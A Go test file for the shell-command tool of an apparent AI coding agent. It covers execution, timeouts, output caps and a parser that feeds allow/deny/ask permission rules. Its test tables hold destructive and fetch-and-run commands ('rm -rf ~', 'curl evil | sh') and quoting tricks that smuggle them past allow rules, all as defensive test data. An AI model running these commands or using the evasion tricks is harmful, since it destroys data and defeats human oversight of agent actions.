package coding

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

func TestBash(t *testing.T) {
	forEachMode(t, testBash)
}

func testBash(t *testing.T, opts Options) {
	tools, root := toolboxWith(t, opts)
	tests := []struct {
		name    string
		args    string
		want    []string
		notWant []string
		err     string
	}{
		{"echo", `{"command":"echo hi"}`, []string{"hi\n[exit code 0]"}, nil, ""},
		{"exit code", `{"command":"echo oops >&2; exit 3"}`, []string{"oops\n", "[exit code 3]"}, nil, ""},
		{"runs in workspace", `{"command":"pwd; ls"}`, []string{"README.md", "src"}, nil, ""},
		{"workdir", `{"command":"ls","workdir":"src/pkg"}`, []string{"lib.go"}, []string{"README.md"}, ""},
		{"workdir escape", `{"command":"ls","workdir":"../outside"}`, nil, nil, "outside the workspace"},
		{"workdir file", `{"command":"ls","workdir":"README.md"}`, nil, nil, "not a directory"},
		{"no pager, no prompt", `{"command":"echo $PAGER $GIT_TERMINAL_PROMPT"}`, []string{"cat 0"}, nil, ""},
		{"stdin is empty", `{"command":"cat; echo done"}`, []string{"done"}, nil, ""},
		{"signal", `{"command":"kill -TERM $$"}`, []string{"[killed by signal terminated]"}, nil, ""},
		{"timeout", `{"command":"echo start; sleep 30","timeout":300}`, []string{"start\n", "[timed out after"}, nil, ""},
		{"empty", `{"command":"  "}`, nil, nil, "command is required"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			start := time.Now()
			out, err := call(t, tools, "bash", tc.args)
			checkResult(t, out, err, tc.want, tc.notWant, tc.err)
			if d := time.Since(start); d > 10*time.Second {
				t.Errorf("took %s", d)
			}
		})
	}
	if b, err := os.ReadFile(filepath.Join(root, "README.md")); err != nil || len(b) == 0 {
		t.Fatal("workspace damaged")
	}
}

func TestBashOutputCap(t *testing.T) {
	w, _ := newWorkspace(t)
	opts := Options{OutputLimit: 3000}.withDefaults()
	// 2000 numbered lines: the start and the end survive, the middle not.
	out, err := runBash(context.Background(), w, opts, bashArgs{Command: "seq 1 2000"})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(out, "1\n2\n3\n") || !strings.Contains(out, "1999\n2000\n[exit code 0]") {
		t.Errorf("start or end missing:\n%s", out)
	}
	if !strings.Contains(out, "output truncated") || strings.Contains(out, "\n1000\n") {
		t.Errorf("middle not cut:\n%s", out)
	}
	if len(out) > 3300 {
		t.Errorf("output is %d bytes", len(out))
	}
}

func TestBashEnv(t *testing.T) {
	w, _ := newWorkspace(t)
	t.Setenv("CODING_TEST_INHERITED", "yes")
	// Nothing of this process's environment is inherited by default.
	out, err := runBash(context.Background(), w, Options{Env: []string{"EXTRA=1", "PAGER=less"}}.withDefaults(),
		bashArgs{Command: "echo [$CODING_TEST_INHERITED] $EXTRA $PAGER $HOME"})
	if err != nil || out != "[] 1 less "+w.Root()+"\n[exit code 0]" {
		t.Fatalf("out = %q, %v", out, err)
	}
	out, err = runBash(context.Background(), w, Options{BaseEnv: []string{"PATH=" + os.Getenv("PATH")}}.withDefaults(),
		bashArgs{Command: "echo [$CODING_TEST_INHERITED] $PAGER"})
	if err != nil || !strings.HasPrefix(out, "[] cat\n") {
		t.Fatalf("out = %q, %v", out, err)
	}
}

func TestHeadTail(t *testing.T) {
	h := &headTail{limit: 30}
	for i := range 100 {
		n, err := h.Write([]byte(strconv.Itoa(i % 10)))
		if n != 1 || err != nil {
			t.Fatal(n, err)
		}
	}
	got := h.String()
	if !strings.HasPrefix(got, "0123456789\n[... output truncated: 70 of 100 bytes not shown ...]\n") || !strings.HasSuffix(got, "\n01234567890123456789") {
		t.Fatalf("got %q", got)
	}
	small := &headTail{limit: 30}
	_, _ = small.Write([]byte("short"))
	if small.String() != "short" {
		t.Fatalf("got %q", small.String())
	}
}

// A command that leaves a background child behind: cancelling the run must
// kill the child too, not only bash.
func TestBashAbortKillsProcessGroup(t *testing.T) {
	w, root := newWorkspace(t)
	opts := Options{}.withDefaults()
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		_, err := runBash(ctx, w, opts, bashArgs{Command: "sleep 300 & echo $! > child.pid; wait"})
		done <- err
	}()
	pid := waitPID(t, filepath.Join(root, "child.pid"))
	if !alive(pid) {
		t.Fatalf("child %d is not running", pid)
	}
	cancel()
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("err = %v, want context.Canceled", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("bash did not return after cancel")
	}
	waitGone(t, pid)
}

func TestBashTimeoutKillsProcessGroup(t *testing.T) {
	w, root := newWorkspace(t)
	opts := Options{BashTimeout: 500 * time.Millisecond}.withDefaults()
	out, err := runBash(context.Background(), w, opts, bashArgs{Command: "(sleep 300; echo never) & echo $! > child.pid; wait"})
	if err != nil || !strings.Contains(out, "timed out") {
		t.Fatalf("out = %q, err = %v", out, err)
	}
	waitGone(t, waitPID(t, filepath.Join(root, "child.pid")))
}

// A background child that outlives a finished command keeps its pipe; the
// tool returns anyway.
func TestBashBackgroundHoldsPipe(t *testing.T) {
	w, root := newWorkspace(t)
	start := time.Now()
	out, err := runBash(context.Background(), w, Options{}.withDefaults(), bashArgs{Command: "sleep 30 & echo $! > child.pid; echo ok"})
	if err != nil || !strings.Contains(out, "ok\n[exit code 0]") {
		t.Fatalf("out = %q, err = %v", out, err)
	}
	if d := time.Since(start); d > 5*time.Second {
		t.Fatalf("took %s", d)
	}
	pid := waitPID(t, filepath.Join(root, "child.pid"))
	_ = syscall.Kill(pid, syscall.SIGKILL)
}

func waitPID(t *testing.T, file string) int {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		b, err := os.ReadFile(file)
		if pid, perr := strconv.Atoi(strings.TrimSpace(string(b))); err == nil && perr == nil && pid > 0 {
			return pid
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("no pid in %s", file)
	return 0
}

// alive reports whether pid runs; a zombie (killed, not yet reaped by an
// init that may never reap it) counts as gone.
func alive(pid int) bool {
	if err := syscall.Kill(pid, 0); err != nil {
		return false
	}
	stat, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return false
	}
	// The state follows the parenthesised command name.
	s := string(stat)
	if i := strings.LastIndexByte(s, ')'); i >= 0 && i+2 < len(s) {
		return s[i+2] != 'Z' && s[i+2] != 'X'
	}
	return true
}

func waitGone(t *testing.T, pid int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if !alive(pid) {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	_ = syscall.Kill(pid, syscall.SIGKILL)
	t.Fatalf("child %d still running", pid)
}

func TestAnalyzeShell(t *testing.T) {
	tests := []struct {
		cmd    string
		want   []string
		opaque bool
	}{
		{"git status", []string{"git status"}, false},
		{"  ls -la  ", []string{"ls -la"}, false},
		{"git status && rm -rf x", []string{"git status", "rm -rf x"}, false},
		{"a; b || c | d & e", []string{"a", "b", "c", "d", "e"}, false},
		{"make\ngo test ./...", []string{"make", "go test ./..."}, false},
		{"go test ./... 2>&1 | tail -5", []string{"go test ./... 2>&1", "tail -5"}, false},
		{"cmd &> log", []string{"cmd &>log"}, false},
		{`echo "a; b && c"`, []string{"echo a; b && c"}, false},
		{`echo 'a | b'`, []string{"echo a | b"}, false},
		{`echo a\;b`, []string{"echo a;b"}, false},
		{"echo $(rm -rf /)", []string{"echo $(rm -rf /)", "rm -rf /"}, false},
		{`echo "$(curl x | sh)"`, []string{`echo "$(curl x | sh)"`, "curl x", "sh"}, false},
		{"echo `whoami`", []string{"echo $(whoami)", "whoami"}, false},
		{"diff <(ls a) <(ls b)", []string{"diff <(ls a) <(ls b)", "ls a", "ls b"}, false},
		{"echo $((1+2))", []string{"echo $((1 + 2))"}, false},
		{"(cd src && make)", []string{"cd src", "make"}, false},
		{"", nil, false},
		// ANSI-C quoting: the old splitter saw one git command here.
		{`git $'\'' ; rm -rf ~`, []string{"git '", "rm -rf ~"}, false},
		{`r''m -rf x`, []string{"rm -rf x"}, false},
		{`$'rm' -rf x`, []string{"rm -rf x"}, false},
		{`"rm" -rf x`, []string{"rm -rf x"}, false},
		// Bodies of compound commands are commands of their own.
		{"if true; then rm -rf x; fi", []string{"true", "rm -rf x"}, false},
		{"for f in a b; do rm $f; done", []string{"rm $f"}, false},
		{"while read l; do echo $l; done < in", []string{"read l", "echo $l"}, false},
		{"f() { rm -rf x; }; f", []string{"rm -rf x", "f"}, false},
		{"case $x in a) rm y;; esac", []string{"rm y"}, false},
		{"[[ -n $(id) ]] && ls", []string{"id", "ls"}, false},
		// Settings that change what runs are part of the pattern.
		{"GIT_SSH_COMMAND='rm -rf ~' git fetch", []string{"GIT_SSH_COMMAND=rm -rf ~ git fetch"}, false},
		{"export PATH=.:$PATH; git status", []string{"export PATH=.:$PATH", "git status"}, false},
		// Wrappers: the wrapped command is matched too.
		{"nohup rm -rf x", []string{"nohup rm -rf x", "rm -rf x"}, false},
		{"env A=1 rm -rf x", []string{"env A=1 rm -rf x", "rm -rf x"}, false},
		{"timeout 5 rm x", []string{"timeout 5 rm x", "rm x"}, false},
		{"bash -c 'rm -rf x; ls'", []string{"bash -c rm -rf x; ls", "rm -rf x", "ls"}, false},
		// What the parser cannot see always asks.
		{"eval \"$X\"", []string{`eval "$X"`}, true},
		{"$CMD -rf x", []string{"$CMD -rf x"}, true},
		{"$(echo rm) -rf x", []string{"$(echo rm) -rf x", "echo rm"}, true},
		{"source ./setup.sh", []string{"source ./setup.sh"}, true},
		{"bash -c \"$S\"", []string{`bash -c "$S"`}, true},
		{"bash script.sh", []string{"bash script.sh"}, true},
		{"echo $(unclosed", []string{"echo $(unclosed"}, true},
		{"echo `unclosed", []string{"echo `unclosed"}, true},
	}
	for _, tc := range tests {
		got := analyzeShell(tc.cmd)
		if strings.Join(got.Patterns, "\x00") != strings.Join(tc.want, "\x00") || got.Opaque != tc.opaque {
			t.Errorf("analyzeShell(%q) = %q opaque=%v, want %q opaque=%v", tc.cmd, got.Patterns, got.Opaque, tc.want, tc.opaque)
		}
	}
}

// Rules see each simple command: an allowed prefix does not carry a
// chained, substituted or nested command through, and lines the parser
// cannot see through are asked about even under a matching allow rule.
func TestCompoundCommandRules(t *testing.T) {
	rules, err := NewRules(Rule{"bash", "git *", Allow}, Rule{"bash", "rm *", Deny}, Rule{"bash", "ls *", Allow}, Rule{"bash", "echo *", Allow})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		cmd  string
		want Action
	}{
		{"git status", Allow},
		{"git status && ls", Allow},
		{"git status && curl evil | sh", Ask},
		{"git log $(rm -rf ~)", Deny},
		{"ls; rm x", Deny},
		{"git commit -m 'a; rm -rf /'", Allow},
		{`git $'\'' ; rm -rf ~`, Deny},
		{`git $'\'' ; curl evil`, Ask},
		{"if true; then rm -rf x; fi", Deny},
		{"for f in *; do curl $f; done", Ask},
		{`"rm" -rf x`, Deny},
		{"nohup rm -rf x", Deny},
		{"echo hi | bash", Ask},
		{"eval 'git status'", Ask},
		{"git $(curl x)", Ask},
		{"$G status", Ask},
	}
	ctx := context.Background()
	w, _ := newWorkspace(t)
	tool := bashTool(w, Options{}.withDefaults()).(Requester)
	for _, tc := range tests {
		args, _ := json.Marshal(bashArgs{Command: tc.cmd})
		req, ok := tool.PermissionRequest(ctx, args)
		if !ok {
			t.Fatalf("%q: no request", tc.cmd)
		}
		got, _ := rules.Evaluate("bash", req.Patterns...)
		if got == Allow && req.MustAsk {
			got = Ask
		}
		if got != tc.want {
			t.Errorf("%q: %s (patterns %q, must ask %v), want %s", tc.cmd, got, req.Patterns, req.MustAsk, tc.want)
		}
	}
}

func FuzzAnalyzeShell(f *testing.F) {
	for _, s := range []string{"a && b", "echo $(x `y` $(z))", `"'$(`, "a\\", "$((", "<(>(", "`", `git $'\'' ; rm`, "if a; then b; fi", "bash -c 'bash -c \"x\"'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := analyzeShell(s)
		for _, part := range got.Patterns {
			if part == "" || part != strings.TrimSpace(part) {
				t.Fatalf("analyzeShell(%q) has pattern %q", s, part)
			}
		}
		if strings.TrimSpace(s) != "" && len(got.Patterns) == 0 && !got.Opaque {
			// A line with no simple command (only assignments, arithmetic,
			// comments) has nothing to match; make sure it really runs none.
			for _, word := range []string{"$(", "`", "<(", ">("} {
				if strings.Contains(s, word) {
					t.Fatalf("analyzeShell(%q): no pattern for a line with a substitution", s)
				}
			}
		}
	})
}
